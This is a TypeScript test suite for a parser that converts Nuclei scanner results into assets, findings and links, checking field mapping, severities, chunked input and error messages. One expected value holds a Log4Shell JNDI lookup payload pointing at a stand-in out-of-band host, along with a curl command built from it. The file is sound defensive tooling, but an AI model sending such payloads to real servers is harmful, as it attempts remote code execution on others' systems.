import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import type { ParsedRecord } from '../contract.js';
import { countRecords } from '../support/count-records.js';
import { byteChunks, collect, rejectsWith as rejectsWithParser } from '../support/testing.js';
import { SAMPLE_NESSUS } from '../nessus/fixtures/sample-nessus.js';
import { LOG4J_REQUEST, LOG4J_RESPONSE, NUCLEI_LEGACY_ARRAY, NUCLEI_V3_LINES, nucleiFixtures } from './fixtures/nuclei.fixtures.js';
import { nucleiParser } from './nuclei.parser.js';

const parse = (text: string): Promise<ParsedRecord[]> => collect(nucleiParser.parse(Readable.from([Buffer.from(text)])));
const rejectsWith = (text: string, message: RegExp) => rejectsWithParser(nucleiParser, text, message);
const findings = (records: ParsedRecord[]) => records.flatMap((r) => (r.kind === 'finding' ? [r] : []));

test('counts of every sample follow the identity rules (template id, host, pairs; no evidence)', async () => {
  for (const sample of nucleiFixtures.samples) {
    assert.deepEqual(await countRecords(nucleiParser.parse(byteChunks(sample.content, 64))), sample.expected, sample.name);
  }
});

test('maps a v3 result to an asset, a finding and a link with the proof as detail.evidence', async () => {
  const [asset, finding, link] = await parse(NUCLEI_V3_LINES);
  assert.deepEqual(asset, { kind: 'asset', key: 'https://app.example.test', data: { name: 'https://App.Example.test', ip: '203.0.113.10', hostname: 'app.example.test' } });
  assert.deepEqual(finding, {
    kind: 'finding',
    key: 'CVE-2021-44228',
    data: {
      title: 'Apache Log4j2 – Remote Code Injection',
      severity: 'Critical',
      toolSeverity: 'critical',
      description: 'Apache Log4j2 <=2.14.1 JNDI features… «lookup» are exploitable.',
      solution: 'Upgrade to Log4j 2.3.1, 2.12.3 or 2.17.0.',
      references: ['https://logging.apache.org/log4j/2.x/security.html', 'https://nvd.nist.gov/vuln/detail/CVE-2021-44228'],
      cves: ['CVE-2021-44228'],
      cwes: ['CWE-502', 'CWE-400'],
      cvssV3Score: 10,
      cvssV3Vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
      extra: {
        template: 'http/cves/2021/CVE-2021-44228.yaml',
        templateUrl: 'https://templates.nuclei.sh/public/CVE-2021-44228',
        tags: ['cve', 'cve2021', 'rce', 'log4j'],
        authors: ['melbadry9', 'dhiyaneshDK'],
        epssScore: 0.97,
        metadata: { 'max-request': 1, vendor: 'apache' },
      },
      firstSeen: '2024-03-01T09:00:05.123Z',
      lastSeen: '2024-03-01T09:00:05.123Z',
    },
  });
  const matchedAt = 'https://app.example.test/?x=${jndi:ldap://oast.example/a}';
  assert.deepEqual(link, {
    kind: 'link', findingKey: 'CVE-2021-44228', assetKey: 'https://app.example.test',
    detail: {
      matchedAt, type: 'http', port: 443, scheme: 'https', extractedResults: ['198.51.100.7'], timestamp: '2024-03-01T09:00:05.123Z',
      evidence: `Matched at: ${matchedAt}\n\nExtracted results:\n198.51.100.7\n\nCurl command\ncurl -X 'GET' -H 'Host: app.example.test' '${matchedAt}'` +
        `\n\nREQUEST\n${LOG4J_REQUEST}\n\nRESPONSE\n${LOG4J_RESPONSE}`,
    },
  });
});

test('reads the field names of Nuclei before v2.5 and string-valued lists', async () => {
  const records = await parse(NUCLEI_LEGACY_ARRAY);
  const [first, panel] = findings(records);
  assert.equal(first?.key, 'nginx-version');
  assert.deepEqual(first?.data.extra, { tags: ['tech', 'nginx'], authors: ['philippedelteil'] });
  assert.deepEqual(panel?.data.references, ['https://example.org/pma', 'https://example.org/pma-hardening']);
  const links = records.flatMap((r) => (r.kind === 'link' ? [r.detail] : []));
  assert.deepEqual(links[0], {
    matchedAt: 'http://legacy.example.test', type: 'http', extractedResults: ['nginx/1.14.2'], timestamp: '2021-05-20T08:11:02.287Z',
    evidence: 'Matched at: http://legacy.example.test\n\nExtracted results:\nnginx/1.14.2',
  });
  assert.equal(links[1]?.matcherName, 'title');
  const other = records.find((r) => r.kind === 'asset' && r.key === 'http://other.example.test:8080');
  assert.deepEqual(other?.kind === 'asset' ? other.data : undefined, { name: 'http://other.example.test:8080', hostname: 'other.example.test' });
});

test('maps every Nuclei severity; unknown counts as Informational', async () => {
  const severities = new Map(findings(await parse(NUCLEI_V3_LINES)).map((f) => [f.data.toolSeverity, f.data.severity]));
  assert.deepEqual(Object.fromEntries(severities), {
    critical: 'Critical', high: 'High', medium: 'Medium', low: 'Low', info: 'Informational', unknown: 'Informational',
  });
});

test('firstSeen/lastSeen are sent only when they widen the range, so merged findings keep the earliest and latest', async () => {
  const times = findings(await parse(NUCLEI_V3_LINES)).filter((f) => f.key === 'CVE-2021-44228' || f.key === 'tech-detect')
    .map((f) => [f.key, f.data.firstSeen, f.data.lastSeen]);
  assert.deepEqual(times, [
    ['CVE-2021-44228', '2024-03-01T09:00:05.123Z', '2024-03-01T09:00:05.123Z'],
    ['CVE-2021-44228', '2024-03-01T08:59:00.000Z', undefined],
    ['tech-detect', '2024-03-01T10:01:00.000Z', '2024-03-01T10:01:00.000Z'],
    ['tech-detect', undefined, '2024-03-01T10:02:00.000Z'],
  ]);
});

test('gives the same records whatever the chunk size (1 and 7 bytes split multi-byte characters)', async () => {
  for (const text of [NUCLEI_V3_LINES, NUCLEI_LEGACY_ARRAY]) {
    const whole = await parse(text);
    for (const size of [1, 7]) {
      assert.deepEqual(await collect(nucleiParser.parse(byteChunks(text, size))), whole, `chunk size ${size}`);
    }
  }
});

test('an empty file (what Nuclei writes when nothing matched) and an empty array give zero records', async () => {
  assert.deepEqual(await parse(''), []);
  assert.deepEqual(await parse('\n  \n'), []);
  assert.deepEqual(await parse('[]'), []);
});

test('a malformed line fails with its record number and line', async () => {
  const lines = NUCLEI_V3_LINES.split('\n');
  lines[4] = lines[4]!.replace('"matcher-name":', '"matcher-name"');
  const err = await rejectsWith(lines.join('\n'), /malformed JSON: expected ':'.* in record 4/);
  assert.equal(err.position.line, 5);
  assert.equal(err.position.record, 4);
});

test('a truncated array or line fails as an unexpected end of file', async () => {
  await rejectsWith(NUCLEI_LEGACY_ARRAY.slice(0, NUCLEI_LEGACY_ARRAY.indexOf('phpMyAdmin Panel')), /unexpected end of file.*in record 2 \(\[1\]\)/);
  await rejectsWith(NUCLEI_V3_LINES.slice(0, NUCLEI_V3_LINES.length - 20), /unexpected end of file.*in record 8/);
});

test('results without host (some releases omit it) name the host of matched-at, so one target stays one asset', async () => {
  const lines = [
    { 'template-id': 'dvwa-default-login', info: { severity: 'critical' }, 'matched-at': 'http://dvwa_app_1/index.php', ip: '172.18.0.3' },
    { 'template-id': 'phpinfo-files', info: { severity: 'low' }, 'matched-at': 'http://dvwa_app_1//phpinfo.php', ip: '172.18.0.3' },
    { 'template-id': 'ssh-detect', info: { severity: 'info' }, 'matched-at': '172.18.0.3:22' },
    { 'template-id': 'ping', info: { severity: 'info' }, ip: '172.18.0.4' },
  ].map((result) => JSON.stringify(result)).join('\n');
  const assets = (await parse(lines)).flatMap((r) => (r.kind === 'asset' ? [r.key] : []));
  assert.deepEqual(assets, ['dvwa_app_1', 'dvwa_app_1', '172.18.0.3', '172.18.0.4']);
});

test('a result without template id or host, or a record that is not an object, is rejected', async () => {
  await rejectsWith('{"info":{"name":"x"},"host":"h"}\n', /record 1 has no template-id \(or templateID\)/);
  await rejectsWith('[{"template-id":"t","info":{}}]', /record 1 \(\[0\]\) \(template t\) has no host/);
  await rejectsWith('["just text"]', /record 1 \(\[0\]\) is not a JSON object; expected a Nuclei result/);
});

test('files of other formats are rejected with what was expected', async () => {
  await rejectsWith(SAMPLE_NESSUS, /expected Nuclei JSON output .*, but the file is not JSON \(it starts with "<\?xml/);
  await rejectsWith('{"version":"2.1.0","runs":[]}', /record 1 has no template-id/);
});

test('a record larger than maxTokenChars is rejected', async () => {
  const big = JSON.stringify([{ 'template-id': 't', host: 'h', response: 'x'.repeat(2000) }]);
  await assert.rejects(collect(nucleiParser.parse(Readable.from([big]), { maxTokenChars: 1000 })), /record 1 \(\[0\]\) is larger than the limit of 1000 characters/);
});

test('sniff recognises Nuclei JSON Lines and arrays only', () => {
  assert.equal(nucleiParser.sniff(NUCLEI_V3_LINES.slice(0, 300)), true);
  assert.equal(nucleiParser.sniff(NUCLEI_LEGACY_ARRAY.slice(0, 300)), true);
  assert.equal(nucleiParser.sniff(SAMPLE_NESSUS.slice(0, 500)), false);
  assert.equal(nucleiParser.sniff('{"$schema":"https://json.schemastore.org/sarif-2.1.0.json","version":"2.1.0","runs":[]}'), false);
  assert.equal(nucleiParser.sniff('{"host":"a","ip":"1.2.3.4","port":"80","banner":"","vulnerabilities":[]}'), false);
  assert.equal(nucleiParser.sniff(''), false);
});
